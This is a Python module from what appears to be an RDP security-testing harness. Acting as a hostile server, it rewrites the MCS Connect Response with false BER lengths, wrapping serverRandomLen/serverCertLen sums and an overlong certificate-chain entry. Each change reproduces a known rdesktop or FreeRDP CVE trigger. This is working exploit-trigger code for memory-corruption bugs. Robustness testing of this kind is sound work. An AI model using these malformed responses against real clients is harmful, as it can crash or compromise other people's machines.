"""Hostile lies in the connection sequence: the MCS Connect Response a client parses before
licensing ([T125] 11.2, MS-RDPBCGR 2.2.1.4).

Some client bugs a hostile server reaches sit in what it sends before the licensing PDUs:
the BER lengths of the Connect-Response itself (rdesktop's mcs_recv_connect_response and
mcs_parse_domain_params, CVE-2018-20175) and the Server Security Data block SC_SECURITY
(MS-RDPBCGR 2.2.1.4.3) with its server certificate (rdesktop's sec_parse_crypt_info,
CVE-2018-20176; FreeRDP's gcc_read_server_security_data, CVE-2017-2837).  The adapter hands
each write to `rdplic.hostile.HostileConnection.mutate`, which gives the Connect Response
frame to the profile's `ConnectMutate`; the frame is decoded with `rdplic.pdu`, the lie
put in, and everything around it re-encoded (GCC and BER lengths, TPKT) so that the lie is
the only one the client sees.
"""

from __future__ import annotations

import dataclasses
import random
from collections.abc import Callable

from construct import Int32ul, Struct

from rdplic.pdu.certificates import (
    ServerCertificate,
    X509CertificateChain,
    encode_server_certificate,
)
from rdplic.pdu.errors import PduError
from rdplic.pdu.framing import tpkt_data_frame
from rdplic.pdu.gcc import (
    ConferenceCreateResponse,
    EncryptionMethod,
    ServerSecurityData,
    UnknownBlock,
    UserDataType,
    decode_conference_create_response,
    encode_conference_create_response,
)
from rdplic.pdu.mcs import McsConnectResponse, decode_mcs_connect_response
from rdplic.pdu.mcs import encode_mcs_connect_response as encode_response

__all__ = [
    "ConnectMutate",
    "ConnectResponse",
    "ber_length_lie",
    "chain_certificate_lie",
    "frame",
    "security_data_lie",
]

X224_DATA = bytes.fromhex("02f080")
"""The X.224 Data TPDU header every connection-sequence frame after the confirm has."""
TAG_CONNECT_RESPONSE = bytes.fromhex("7f66")
"""BER tag of the Connect-Response ([APPLICATION 102], [T125] 11.2)."""

SC_SECURITY_LENGTHS = Struct(
    "encryptionMethod" / Int32ul,
    "encryptionLevel" / Int32ul,
    "serverRandomLen" / Int32ul,
    "serverCertLen" / Int32ul,
)
"""The fixed head of TS_UD_SC_SEC1 with keys (MS-RDPBCGR 2.2.1.4.3), written as lied."""

ENCRYPTION_METHOD_128BIT = 0x02
ENCRYPTION_LEVEL_CLIENT_COMPATIBLE = 0x02
RANDOM_SIZE = 32


@dataclasses.dataclass(frozen=True, slots=True)
class ConnectResponse:
    """The Connect Response of one frame, decoded: what a `ConnectMutate` works on."""

    raw: bytes
    """The Connect-Response as the machine encoded it (the X.224 payload)."""
    mcs: McsConnectResponse
    gcc: ConferenceCreateResponse

    @classmethod
    def parse(cls, frame: bytes) -> ConnectResponse | None:
        """The Connect Response in ``frame`` (a whole TPKT frame), None for any other."""
        if frame[4:7] != X224_DATA or frame[7:9] != TAG_CONNECT_RESPONSE:
            return None
        try:
            mcs = decode_mcs_connect_response(frame[7:])
            gcc = decode_conference_create_response(mcs.user_data)
        except PduError:
            return None
        return cls(frame[7:], mcs, gcc)

    @property
    def security(self) -> ServerSecurityData | None:
        found = [b for b in self.gcc.server_blocks if isinstance(b, ServerSecurityData)]
        return found[0] if found else None

    def with_security(self, block: ServerSecurityData | bytes) -> bytes:
        """The MCS Connect-Response (BER) with SC_SECURITY replaced by ``block``: a block
        `rdplic.pdu.gcc` encodes, or the raw body of one whose lengths lie (which the encoder
        refuses to write under SC_SECURITY's type: it goes in as a block of a type no one
        uses, renamed in the encoded bytes; every length around it is the encoder's)."""
        stand_in = UnknownBlock(_STAND_IN, block) if isinstance(block, bytes) else block
        blocks = tuple(
            stand_in if isinstance(b, ServerSecurityData) else b for b in self.gcc.server_blocks
        )
        gcc = dataclasses.replace(self.gcc, server_blocks=blocks)
        user_data = encode_conference_create_response(gcc)
        if isinstance(block, bytes):
            size = (4 + len(block)).to_bytes(2, "little")
            named = _STAND_IN.to_bytes(2, "little") + size + block
            assert user_data.count(named) == 1  # INVARIANT: the block encoded once, whole
            real = int(UserDataType.SC_SECURITY).to_bytes(2, "little") + size + block
            user_data = user_data.replace(named, real)
        return encode_response(dataclasses.replace(self.mcs, user_data=user_data, ber_layout=None))


_STAND_IN = 0x0CFE
"""A TS_UD_HEADER type MS-RDPBCGR 2.2.1.3.1 does not define (`ConnectResponse.with_security`)."""


ConnectMutate = Callable[[ConnectResponse, random.Random, list[str]], bytes | None]
"""The MCS Connect-Response to send instead (the X.224 payload), or None: left alone; it
notes what it did in the list (the connection's ``mutations``)."""


def frame(mcs: bytes) -> bytes:
    """``mcs`` (a Connect-Response) in its X.224 Data TPDU and TPKT frame."""
    return tpkt_data_frame(mcs)


def _ber_length(value: int) -> bytes:
    """A BER length in the long form with four octets (the form a lie of 2^31 needs)."""
    return bytes((0x84,)) + value.to_bytes(4, "big")


def ber_length_lie(response: ConnectResponse, rng: random.Random, notes: list[str]) -> bytes:
    """CVE-2018-20175 (rdesktop <= 1.8.3, mcs_recv_connect_response / mcs_parse_domain_params):
    the BER length of calledConnectId or of domainParameters at 2^31 or more, which rdesktop
    read into a signed int and skipped by (a negative step backwards).  The element's content
    stays as it was; only the outer Connect-Response length is made true again."""
    honest = response.raw
    first = honest[2]
    content_at = 3 if first < 0x80 else 3 + (first & 0x7F)
    content = honest[content_at:]
    # DER as the connection machine writes it: result (0a 01 00), calledConnectId (02 01 00),
    # domainParameters (30 1a ...)
    connect_id_at = 3
    parameters_at = connect_id_at + 2 + content[connect_id_at + 1]
    name = rng.choice(("calledConnectId", "domainParameters"))
    at = connect_id_at if name == "calledConnectId" else parameters_at
    lie = rng.choice((0xFFFFFFFF, 0x80000000, 0xFFFFFF00 + rng.randint(0, 0xFF)))
    content = content[: at + 1] + _ber_length(lie) + content[at + 2 :]
    notes.append(f"{name} BER length->0x{lie:x}")
    size = len(content)
    length = bytes((size,)) if size < 0x80 else bytes((0x82,)) + size.to_bytes(2, "big")
    return TAG_CONNECT_RESPONSE + length + content


def _keys_and_certificate(response: ConnectResponse, rng: random.Random) -> tuple[int, int, bytes]:
    """encryptionMethod, encryptionLevel and the server random of what is sent; under TLS
    (method and level 0, no keys) a Standard RDP Security method and a random are made up,
    so that the client goes on to read the lying fields."""
    security = response.security
    if security is None or not security.server_random:
        return ENCRYPTION_METHOD_128BIT, ENCRYPTION_LEVEL_CLIENT_COMPATIBLE, rng.randbytes(32)
    return int(security.encryption_method), int(security.encryption_level), security.server_random


def security_data_lie(response: ConnectResponse, rng: random.Random, notes: list[str]) -> bytes:
    """CVE-2017-2837 (FreeRDP 2.0.0-beta1, gcc_read_server_security_data, TALOS-2017-0339):
    serverCertLen (and serverRandomLen, but for the true 32) past the block, their 32-bit
    sum wrapping to no more than the bytes that follow: FreeRDP checked the sum only
    (fixed in FreeRDP commit 8292b4558, "Fix TALOS issues")."""
    method, level, server_random = _keys_and_certificate(response, rng)
    security = response.security
    certificate = (security.server_certificate if security else None) or rng.randbytes(64)
    data = server_random + certificate
    random_len = rng.choice((0x20, 0x100, 0x10000, 0x80000000))
    cert_len = 2**32 - random_len + rng.randint(0, min(len(data), random_len - 1))
    head = SC_SECURITY_LENGTHS.build(
        {
            "encryptionMethod": method,
            "encryptionLevel": level,
            "serverRandomLen": random_len,
            "serverCertLen": cert_len,
        }
    )
    wrapped = (random_len + cert_len) & 0xFFFFFFFF
    notes.append(
        f"serverRandomLen->0x{random_len:x} serverCertLen->0x{cert_len:x} (sum 0x{wrapped:x})"
    )
    return response.with_security(head + data)


def chain_certificate_lie(response: ConnectResponse, rng: random.Random, notes: list[str]) -> bytes:
    """CVE-2018-20176 (rdesktop <= 1.8.3, sec_parse_crypt_info): SC_SECURITY's server
    certificate an X.509 chain (MS-RDPBCGR 2.2.1.4.3.1, CERT_CHAIN_VERSION_2) of three or more
    whose first certificate, one rdesktop skips ("ignored certs"), says it is longer than
    the data; every length around it is true."""
    method, level, server_random = _keys_and_certificate(response, rng)
    count = rng.randint(3, 5)
    fillers = tuple(rng.randbytes(rng.randint(16, 64)) for _ in range(count))
    chain = X509CertificateChain(certificates=fillers, padding=bytes(8 + 4 * count))
    certificate = encode_server_certificate(ServerCertificate(chain, permanent=True))
    lie = rng.choice((0xFFFFFFFF, 0x7FFFFFFF, len(certificate) + rng.randint(1, 0xFFFF)))
    certificate = certificate[:8] + Int32ul.build(lie) + certificate[12:]  # cbCert[0]
    notes.append(f"certificate X.509 chain of {count}, cbCert[0] {len(fillers[0])}->0x{lie:x}")
    return response.with_security(
        ServerSecurityData(EncryptionMethod(method), level, server_random, certificate)
    )
